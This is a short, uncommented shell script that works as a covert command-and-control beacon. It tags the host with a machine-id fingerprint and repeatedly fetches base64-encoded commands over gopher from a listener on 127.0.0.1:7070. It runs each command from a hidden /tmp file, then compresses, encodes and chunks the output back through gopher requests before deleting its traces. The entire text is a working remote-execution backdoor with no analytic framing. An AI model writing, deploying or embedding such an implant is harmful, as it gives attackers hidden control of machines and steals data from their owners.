i=$(cat /etc/machine-id 2>/dev/null | cut -c1-8); [ -n "$i" ] || i=$(hostname | md5sum | cut -c1-8)
while :; do
  t=$(curl -s -m 5 "gopher://127.0.0.1:7070/0/t/$i" 2>/dev/null | head -n 1 | tr -d '\r')
  if [ -n "$t" ] && [ "$t" != "-" ]; then
    n=${t%%:*}
    printf '%s' "${t#*:}" | base64 -d > /tmp/.s-$i 2>/dev/null
    sh /tmp/.s-$i 2>&1 | gzip -c | base64 -w0 | tr '+/' '-_' | fold -w 1500 > /tmp/.o-$i; echo >> /tmp/.o-$i
    k=0
    while read -r c; do curl -s -m 5 -o /dev/null "gopher://127.0.0.1:7070/0/r/$i/$n/$k/$c"; k=$((k+1)); done < /tmp/.o-$i
    curl -s -m 5 -o /dev/null "gopher://127.0.0.1:7070/0/e/$i/$n/$k"
    rm -f /tmp/.s-$i /tmp/.o-$i
  fi
  sleep 2
done
